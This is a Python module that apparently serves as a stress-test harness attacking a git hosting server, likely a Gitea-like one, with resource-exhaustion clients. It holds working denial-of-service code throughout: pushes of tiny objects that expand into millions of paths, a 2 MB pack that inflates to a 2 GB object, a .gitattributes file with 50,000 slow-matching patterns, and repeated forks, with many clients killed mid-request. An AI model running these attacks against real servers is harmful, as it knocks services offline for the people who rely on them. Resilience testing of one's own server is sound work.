"""Clients that send what is small for them and large for a server, again and again; some are killed before they have an answer.

Four kinds: trees of trees whose paths are a million or ten, a pack that inflates to 2 GB, attribute files with many patterns for many
paths, and forks. All run with the least priority, as if they were on another machine.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import itertools
import json
import os
import random
import select
import signal
import struct
import subprocess
import threading
import time
import zlib
from abc import ABC, abstractmethod
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

MIB = 1 << 20
_LEAST = 19
_KILLED, _KILLED_AFTER = 0.5, (0.3, 6.0)  # the share of clients, and seconds
_LONGEST_SECONDS = 600.0
_INFLATED = 2_000 * MIB
_LEVELS = (6, 7)  # of trees: ten paths to the power of so many
_PATTERNS, _DEPTH = 50_000, 3


@dataclass(frozen=True)
class Target:
    """The server, who attacks it, and whose repository is copied."""

    url: str
    account: str
    token: str
    source: str  # OWNER/NAME, which the account may read


@dataclass
class Client:
    """One push or fork, from its start until it had an answer or was killed."""

    began: float  # time.time(), as the kernel counts the starts of processes
    ended: float | None = None


@dataclass
class Hostile(ABC):
    """One pusher; `mark` is what the names of its repositories, or of what it copies, have in them."""

    target: Target
    number: int
    folder: Path
    clients: list[Client] = field(default_factory=list)
    outcomes: Counter[str] = field(default_factory=Counter)

    def __post_init__(self) -> None:
        self._chance = random.Random(self.number)
        self.name = f"attack-{self.number}"
        self.mark = self.name

    def prepare(self) -> None:  # noqa: B027 (not all have anything to make)
        """What is made once."""

    def work(self, over: threading.Event) -> None:
        """Until it is over."""
        for turn in itertools.count():
            if over.is_set():
                return
            patience = self._chance.uniform(*_KILLED_AFTER) if self._chance.random() < _KILLED else _LONGEST_SECONDS
            made = self._made(turn)
            self.clients.append(client := Client(time.time()))
            try:
                self.outcomes[self._send(made, patience, over)] += 1
            finally:
                client.ended = time.time()

    def _made(self, turn: int) -> str:
        """What this client sends."""
        return str(turn)

    @abstractmethod
    def _send(self, made: str, patience: float, over: threading.Event) -> str:
        """One client, which is killed when its time is over; what became of it."""


class _Pusher(Hostile):
    """Pushes a tree with git, in a new commit each time."""

    def prepare(self) -> None:
        self._place = self.folder / self.name
        self._place.mkdir()
        self._git("init", "--quiet", "--bare")
        self._tree = self._planted()

    @abstractmethod
    def _planted(self) -> str:
        """The tree that is pushed, made once."""

    def _made(self, turn: int) -> str:
        return self._git("commit-tree", self._tree, "-m", f"{self.number} {turn}")

    def _send(self, made: str, patience: float, over: threading.Event) -> str:
        target = self.target
        url = f"{target.url.replace('://', f'://x:{target.token}@')}/{target.account}/{self.name}.git"
        command = ["git", "push", "--quiet", url, f"{made}:refs/heads/{made[:12]}"]
        process = subprocess.Popen(
            command,
            cwd=self._place,
            env=_environment(),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        _least(process.pid)
        return _waited(process, patience, over)

    def _git(self, *arguments: str, stdin: str = "") -> str:
        done = subprocess.run(
            ["nice", "-n", str(_LEAST), "git", *arguments],
            cwd=self._place,
            env=_environment(),
            input=stdin.encode(),
            stdout=subprocess.PIPE,
            check=True,
        )
        return done.stdout.decode().strip()

    def _ten_of_ten(self, levels: int, name: str) -> str:
        held, kind = self._git("hash-object", "-w", "--stdin", stdin="x"), "100644 blob"
        for _ in range(levels):
            held = self._git("mktree", stdin="".join(f"{kind} {held}\t{name}{n}\n" for n in range(10)))
            kind = "040000 tree"
        return held


class ManyPaths(_Pusher):
    """A few git objects that are very many paths."""

    def _planted(self) -> str:
        return self._ten_of_ten(_LEVELS[self.number % len(_LEVELS)], "n")


class ManyPatterns(_Pusher):
    """One attribute file with patterns that match slowly, and paths to match them with."""

    def _planted(self) -> str:
        patterns = "".join(f"**/*e*e*{number}*q/**/w filter=lepton\n" for number in range(_PATTERNS))
        attributes = self._git("hash-object", "-w", "--stdin", stdin=patterns)
        below = self._ten_of_ten(_DEPTH, "e" * 15)
        return self._git("mktree", stdin=f"100644 blob {attributes}\t.gitattributes\n040000 tree {below}\td\n")


class _Asking(Hostile):
    """Sends requests without git, from this program: that takes hardly any time of the processor."""

    def _ask(self, method: str, path: str, kind: str, body: bytes, patience: float, over: threading.Event) -> str:
        """The answer's status; `killed` where the connection was closed before there was one."""
        target, until = self.target, time.monotonic() + patience
        connection = http.client.HTTPConnection(urlsplit(target.url).netloc, timeout=_LONGEST_SECONDS)
        who = base64.b64encode(f"{target.account}:{target.token}".encode()).decode()
        try:
            connection.request(method, f"/{path}", body, {"Authorization": f"Basic {who}", "Content-Type": kind})
            while not over.is_set() and time.monotonic() < until:
                if select.select([connection.sock], [], [], 0.05)[0]:
                    answer = connection.getresponse()
                    answer.read()
                    return str(answer.status)
        except (OSError, http.client.HTTPException):
            return "broken off"
        finally:
            connection.close()
        return "killed"


class Inflating(_Asking):
    """Sends a pack of 2 MB with one object of 2 GB, of a kind that git reads whole."""

    def prepare(self) -> None:
        self._pack = _inflating_pack(_INFLATED)
        self._ask("GET", f"{self._place}/info/refs?service=git-receive-pack", "", b"", _LONGEST_SECONDS, threading.Event())

    @property
    def _place(self) -> str:
        return f"{self.target.account}/{self.name}.git"

    def _send(self, made: str, patience: float, over: threading.Event) -> str:
        line = f"{'0' * 40} {'1' * 40} refs/heads/n{made}\0report-status".encode()
        body = b"%04x%s0000" % (len(line) + 4, line) + self._pack
        return self._ask(
            "POST", f"{self._place}/git-receive-pack", "application/x-git-receive-pack-request", body, patience, over
        )


class Forking(_Asking):
    """Copies somebody else's repository."""

    def __post_init__(self) -> None:
        super().__post_init__()
        self.mark = self.target.source

    def _send(self, made: str, patience: float, over: threading.Event) -> str:
        body = json.dumps({"owner": self.target.account, "name": f"{self.name}-{made}"}).encode()
        path = f"api/v1/repositories/{self.target.source}/fork"
        return self._ask("POST", path, "application/json", body, patience, over)


def _inflating_pack(size: int) -> bytes:
    """A pack with one commit of so many zeros, made without going through them."""
    length, rest = [(1 << 4) | (size & 15)], size >> 4
    while rest:
        length[-1] |= 128
        length.append(rest & 127)
        rest >>= 7
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    mebibyte = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler = (size % 65521) << 16 | 1
    body = b"PACK" + struct.pack(">II", 2, 1) + bytes(length)
    body += b"\x78\xda" + mebibyte * (size // MIB) + b"\x03\x00" + struct.pack(">I", adler)
    return body + hashlib.sha1(body).digest()


def _waited(process: subprocess.Popen[bytes], patience: float, over: threading.Event) -> str:
    until = time.monotonic() + patience
    while process.poll() is None:
        if over.is_set() or time.monotonic() > until:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            return "killed"
        time.sleep(0.05)
    return "landed" if process.returncode == 0 else "refused"


def _least(leader: int) -> None:
    """Everything else goes before this group of processes."""
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PGRP, leader, _LEAST)
    with contextlib.suppress(OSError):  # Linux may share the processor out by session first
        Path(f"/proc/{leader}/autogroup").write_text(str(_LEAST))


def _environment() -> dict[str, str]:
    kept = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    people = {f"GIT_{who}_{what}": "mallory@example.org" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    return kept | people | {"HOME": os.devnull, "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0"}
